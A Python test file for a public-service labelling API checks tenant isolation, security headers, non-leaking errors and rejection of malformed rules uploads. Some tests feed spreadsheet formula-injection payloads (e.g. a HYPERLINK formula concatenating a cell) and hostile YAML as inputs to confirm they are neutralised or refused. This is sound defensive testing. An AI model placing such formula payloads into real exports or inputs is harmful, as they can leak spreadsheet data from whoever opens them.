"""Issue 11: the walls between callers, and what the API answers that a browser or a spreadsheet reads."""

from __future__ import annotations

import csv
import io

from spplus.client import PUBLIC_LIST_COLUMNS, rows_to_csv

from .conftest import local_today
from .test_api import api, auth, candidate_json, started  # noqa: F401  (the API fixture)


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised():
    # OWASP's CSV-injection rule: = + - @ tab CR at the start of a cell make it a formula in Excel/LibreOffice.
    hostile = ['=HYPERLINK("http://x"&A2,"y")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    rows = [{"candidate": h, "tier": "bronze", "status": "valid", "suspended": False,
             "certification_body": h, "expires": "2029-01-01"} for h in hostile]
    read = list(csv.DictReader(io.StringIO(rows_to_csv(rows, PUBLIC_LIST_COLUMNS))))
    assert [r["candidate"] for r in read] == ["'" + h for h in hostile]
    assert [r["certification_body"] for r in read] == ["'" + h for h in hostile]
    assert read[0]["tier"] == "bronze" and read[0]["suspended"] == "False"


def test_an_empty_list_is_its_header_alone():
    assert rows_to_csv([], PUBLIC_LIST_COLUMNS) == ",".join(PUBLIC_LIST_COLUMNS) + "\r\n"


async def test_answers_carry_the_headers_a_browser_needs(api):
    public = await api.get("/public/labels.csv")
    assert public.headers["x-content-type-options"] == "nosniff"
    assert "default-src 'none'" in public.headers["content-security-policy"]
    assert public.text.splitlines()[0] == ",".join(PUBLIC_LIST_COLUMNS)
    cid = await started(api)
    read = await api.get(f"/cycles/{cid}", headers=auth(api, "alpha"))
    assert read.status_code == 200 and read.headers["cache-control"] == "no-store"


async def test_the_openapi_document_declares_its_bearer_scheme(api):
    document = (await api.get("/openapi.json")).json()
    schemes = document["components"]["securitySchemes"]
    assert any(s["type"] == "http" and s["scheme"].lower() == "bearer" for s in schemes.values())


async def test_errors_never_carry_temporals_internals(api):
    answer = await api.post("/cycles/nope/events", headers=auth(api, "alpha"),
                            json={"type": "self_assessment", "done_on": "2026-01-01"})
    assert answer.status_code == 404
    assert "workflow" not in answer.text.lower() and "grpc" not in answer.text.lower()


async def test_central_services_have_the_same_door_roles_and_walls_as_local_cycles(api):
    """Issue 11, door 5: start, read, table, timeline and events of a central cycle over HTTP (§2.2.2, §3.8.2)."""
    import asyncio
    import uuid
    from datetime import datetime, timezone

    central = {"id": f"cnaf-{uuid.uuid4().hex[:8]}", "name": "Caisse nationale", "certification_body": "oc-alpha",
               "contract_signed": local_today().isoformat(),
               "local_services": [{"id": f"caf-{uuid.uuid4().hex[:4]}-{i:02d}", "name": f"CAF {i}"} for i in range(9)]}
    assert (await api.post("/central", json=central, headers=auth(api, "beta"))).status_code == 403  # not for oc-beta
    started = await api.post("/central", json=central, headers=auth(api, "alpha"))
    assert started.status_code == 201 and started.json()["workflow_id"] == f"central-{central['id']}"
    for _ in range(100):
        view = await api.get(f"/central/{central['id']}", headers=auth(api, "alpha"))
        if view.status_code == 200:
            break
        await asyncio.sleep(0.05)
    assert view.status_code == 200
    assert view.json()["network_size"] == 9 and view.json()["samples"][0]["size"] == 3  # ⌈√9⌉ = 3 drawn (§2.2.2)
    table = (await api.get(f"/central/{central['id']}/table", headers=auth(api, "alpha"))).json()
    assert len(table) == 3 and {row["result"] for row in table} == {"pending"}
    reports = {"type": "network_reports", "year": datetime.now(timezone.utc).year, "kind": "self_assessment",
               "produced_by": [s["id"] for s in central["local_services"]]}
    sent = await api.post(f"/central/{central['id']}/events", json=reports, headers={**auth(api, "alpha"), "Idempotency-Key": "nr-1"})
    assert sent.status_code == 200 and sent.json()["duplicate"] is False
    timeline = (await api.get(f"/central/{central['id']}/timeline", headers=auth(api, "alpha"))).json()
    assert any(e["kind"] == "network_reports" for e in timeline)
    # The walls: another body learns nothing, the operator reads and does not act, no token is 401.
    for path in ("", "/table", "/timeline"):
        assert (await api.get(f"/central/{central['id']}{path}", headers=auth(api, "beta"))).status_code == 404
    assert (await api.post(f"/central/{central['id']}/events", json=reports, headers=auth(api, "beta"))).status_code == 404
    assert (await api.get(f"/central/{central['id']}", headers=auth(api, "operator"))).status_code == 200
    assert (await api.post(f"/central/{central['id']}/events", json=reports, headers=auth(api, "operator"))).status_code == 403
    assert (await api.get(f"/central/{central['id']}")).status_code == 401


async def test_a_hostile_rules_edition_is_refused_with_positions_and_no_server_path(api):
    """Issue 11, door 7: what answered 500 (a 300-character edition id, a NUL, 1,000-deep nesting) is a 422/413."""
    from spplus.rules.loader import default_rules_dir

    files = {p.name: p.read_text(encoding="utf-8") for p in default_rules_dir().glob("*.yaml")}
    hostile = {
        "long id": {**files, "edition.yaml": files["edition.yaml"].replace('edition: "2025.12"', f'edition: "{"x" * 300}"')},
        "NUL": {**files, "tiers.yaml": files["tiers.yaml"] + "\nx: \x00\n"},
        "deep": {**files, "central.yaml": "a: " + "[" * 1000 + "]" * 1000 + "\n"},
    }
    for what, upload in hostile.items():
        answer = await api.post("/rules/editions", json={"files": upload}, headers=auth(api, "ditp"))
        assert answer.status_code in (413, 422), (what, answer.status_code, answer.text[:300])
        errors = answer.json()["errors"]
        assert errors and all(e["file"] in files and e["line"] >= 1 and e["column"] >= 1 for e in errors), what
        assert "/tmp" not in answer.text and "tmp" not in "".join(e["file"] for e in errors), what


async def test_a_body_change_at_renewal_waits_for_the_receiving_bodys_acceptance(api):
    """Issue 11, door 1: a renewal naming another body (§3.2, §3.10) is a transfer the receiving body
    accepts; only a body of the DITP's register, authorised that day, can be named (§1.2, §1.3)."""
    from datetime import date

    from spplus.records import BodyRegister

    from .steps import one_day_cycle

    register = BodyRegister(api.tokens.engine)
    register.add("oc-beta", "OC Beta", date(2024, 1, 1), None, by="ditp-test")
    register.add("oc-gamma", "OC Gamma", date(2024, 1, 1), date(2025, 6, 30), by="ditp-test")
    cid = await started(api, "alpha")
    today = local_today().isoformat()
    for event in one_day_cycle(today):
        assert (await api.post(f"/cycles/{cid}/events", json=event, headers=auth(api, "alpha"))).status_code == 200
    renewal = {"type": "renewal", "requested_on": today, "contract_signed": today}

    formula = await api.post(f"/cycles/{cid}/events", headers=auth(api, "alpha"),
                             json={**renewal, "certification_body": '=HYPERLINK("http://x"&A2,"y")'})
    assert formula.status_code == 422 and formula.json()["field"] == "renewal.certification_body"
    unknown = await api.post(f"/cycles/{cid}/events", json={**renewal, "certification_body": "oc-zeta"}, headers=auth(api, "alpha"))
    assert unknown.status_code == 422 and "not in the register" in unknown.json()["detail"]
    ended = await api.post(f"/cycles/{cid}/events", json={**renewal, "certification_body": "oc-gamma"}, headers=auth(api, "alpha"))
    assert ended.status_code == 422 and "authorisation ended on 2025-06-30" in ended.json()["detail"]

    asked = await api.post(f"/cycles/{cid}/events", json={**renewal, "certification_body": "oc-beta"}, headers=auth(api, "alpha"))
    assert asked.status_code == 202, asked.text
    transfer = asked.json()["transfer"]
    # Nothing moved yet: the candidacy is still oc-alpha's, and oc-beta cannot see it.
    assert (await api.get(f"/cycles/{cid}", headers=auth(api, "beta"))).status_code == 404
    assert (await api.get(f"/cycles/{cid}", headers=auth(api, "alpha"))).json()["phase"] == "labelled"
    waiting = (await api.get("/transfers", headers=auth(api, "beta"))).json()
    assert [t["id"] for t in waiting if t["status"] == "pending"] == [transfer["id"]]
    assert (await api.post(f"/transfers/{transfer['id']}/accept", headers=auth(api, "alpha"))).status_code == 404  # not its to accept

    accepted = await api.post(f"/transfers/{transfer['id']}/accept", headers=auth(api, "beta"))
    assert accepted.status_code == 200, accepted.text
    again = await api.post(f"/transfers/{transfer['id']}/accept", headers=auth(api, "beta"))
    assert again.status_code == 200 and again.json()["applied"]["duplicate"] is True  # applied once
    for _ in range(100):
        view = await api.get(f"/cycles/{cid}", headers=auth(api, "beta"))
        if view.status_code == 200 and view.json()["cycle_number"] == 2:
            break
    assert view.json()["candidate"]["certification_body"] == "oc-beta" and view.json()["phase"] == "renewing"
    assert (await api.get(f"/cycles/{cid}", headers=auth(api, "alpha"))).status_code == 404


async def test_another_bodys_token_learns_nothing_and_changes_nothing_on_any_route(api):
    """Issue 11, Done when: oc-beta's token on every route of the OpenAPI document, with oc-alpha's ids in
    every path and query parameter, gets no 2xx that names them, and oc-alpha's cycles do not change."""
    import uuid

    from .steps import one_day_cycle

    cid = await started(api, "alpha")
    for event in one_day_cycle(local_today().isoformat())[:3]:
        await api.post(f"/cycles/{cid}/events", json=event, headers=auth(api, "alpha"))
    central = {"id": f"cnaf-{uuid.uuid4().hex[:8]}", "name": "Caisse", "certification_body": "oc-alpha",
               "contract_signed": local_today().isoformat(), "local_services": [{"id": f"caf-{uuid.uuid4().hex[:6]}", "name": "CAF"}]}
    assert (await api.post("/central", json=central, headers=auth(api, "alpha"))).status_code == 201
    before = (await api.get(f"/cycles/{cid}/timeline", headers=auth(api, "alpha"))).json()
    ids = {"candidate_id": cid, "central_id": central["id"], "transfer_id": "1"}
    bodies = {"self_assessment": {"type": "self_assessment", "done_on": local_today().isoformat()}}
    document = (await api.get("/openapi.json")).json()
    tried = 0
    for path, methods in document["paths"].items():
        for method, operation in methods.items():
            url = path.format(**{k: v for k, v in ids.items() if "{" + k + "}" in path})
            params = {p["name"]: "oc-alpha" if p["name"] == "body" else cid
                      for p in operation.get("parameters", []) if p["in"] == "query" and p["name"] not in ("page_size", "page_token", "due_within")}
            json_body = None
            if "requestBody" in operation:
                json_body = bodies["self_assessment"] if "events" in path else (
                    {**central, "certification_body": "oc-alpha"} if path == "/central" else
                    {"edition": "2025.12", "reason": "x"} if path.endswith("/edition") else
                    {"files": {}} if path == "/rules/editions" else candidate_json("oc-alpha") | {"id": cid})
            answer = await api.request(method.upper(), url, params=params, json=json_body, headers=auth(api, "beta"))
            tried += 1
            if path in ("/public/labels", "/public/labels.csv", "/openapi.json") or url == "/transfers":
                assert answer.status_code == 200
                continue
            if (path == "/cycles" and method == "get" and "body" not in params) or path == "/agenda.ics":
                assert answer.status_code == 200 and cid not in answer.text  # its own list, nothing of oc-alpha's
                continue
            assert answer.status_code in (401, 403, 404, 409, 415, 422), (method, url, answer.status_code, answer.text[:200])
            # Whatever the refusal, it tells nothing of where oc-alpha's cycle stands (it only echoes what was sent).
            for secret in ("preparation", "opening", "self-assessment done", "new application"):
                assert secret not in answer.text, (method, url, answer.text[:200])
    assert tried >= 15
    after = (await api.get(f"/cycles/{cid}/timeline", headers=auth(api, "alpha"))).json()
    assert after == before
    assert (await api.get(f"/central/{central['id']}", headers=auth(api, "alpha"))).status_code in (200, 503)


async def test_operators_list_what_is_overdue_and_the_cycles_with_breaches(api):
    """Issue 12, operators: a missed dossier (§3.5.1: a month before the visit) is a breach and overdue."""
    import asyncio
    from datetime import timedelta

    late = await started(api, "alpha")
    on_time = await started(api, "alpha")
    visit = local_today() + timedelta(days=20)  # the dossier was due 30 days before: already missed
    dates = {"type": "audit_dates", "visit_start": visit.isoformat(), "visit_end": visit.isoformat(), "sites": ["hdv"]}
    assert (await api.post(f"/cycles/{late}/events", json=dates, headers=auth(api, "alpha"))).status_code == 200
    for _ in range(100):
        listed = (await api.get("/cycles", params={"overdue": "true"}, headers=auth(api, "operator"))).json()["items"]
        if any(i["candidate"] == late for i in listed):
            break
        await asyncio.sleep(0.1)
    overdue = {i["candidate"]: i for i in listed}
    assert late in overdue and on_time not in overdue
    assert overdue[late]["overdue"] >= 1 and overdue[late]["breaches"] >= 1
    breaches = (await api.get("/cycles", params={"with_breaches": "true"}, headers=auth(api, "alpha"))).json()["items"]
    assert late in {i["candidate"] for i in breaches} and on_time not in {i["candidate"] for i in breaches}
    theirs = (await api.get("/cycles", params={"with_breaches": "true"}, headers=auth(api, "beta"))).json()["items"]
    assert late not in {i["candidate"] for i in theirs}  # a body's lists stay its own
    # The dossier arrives late: still a breach (§3.5.1, a month before the visit), no longer overdue.
    dossier = {"type": "dossier", "received_on": local_today().isoformat(),
               "contents": ["identification", "organisation-chart", "training-plan", "self-assessment",
                            "user-sampling-method", "survey-results", "improvement-plan"]}
    sent = await api.post(f"/cycles/{late}/events", json=dossier, headers=auth(api, "alpha"))
    assert sent.status_code == 200, sent.text
    for _ in range(100):
        listed = (await api.get("/cycles", params={"overdue": "true"}, headers=auth(api, "operator"))).json()["items"]
        if late not in {i["candidate"] for i in listed}:
            break
        await asyncio.sleep(0.1)
    assert late not in {i["candidate"] for i in listed}
    breaches = (await api.get("/cycles", params={"with_breaches": "true"}, headers=auth(api, "operator"))).json()["items"]
    assert {i["candidate"]: i for i in breaches}[late]["breaches"] == 1 and {i["candidate"]: i for i in breaches}[late]["overdue"] == 0
